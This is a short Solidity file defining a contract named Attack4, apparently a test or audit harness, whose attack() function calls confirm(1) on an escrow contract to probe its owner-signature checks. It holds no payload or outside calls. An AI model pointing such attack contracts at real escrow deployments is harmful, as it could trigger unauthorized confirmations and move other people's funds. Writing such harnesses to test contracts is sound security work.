// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IEscrow} from "@argosy/interfaces/IEscrow.sol";
import {SignedByOwner} from "./SignedByOwner.sol";

contract Attack4 {
    SignedByOwner private immutable escrow;
    address private immutable token;

    constructor(SignedByOwner escrow_, address token_) {
        escrow = escrow_;
        token = token_;
    }

    function attack() external {
        escrow.confirm(1);
    }
}
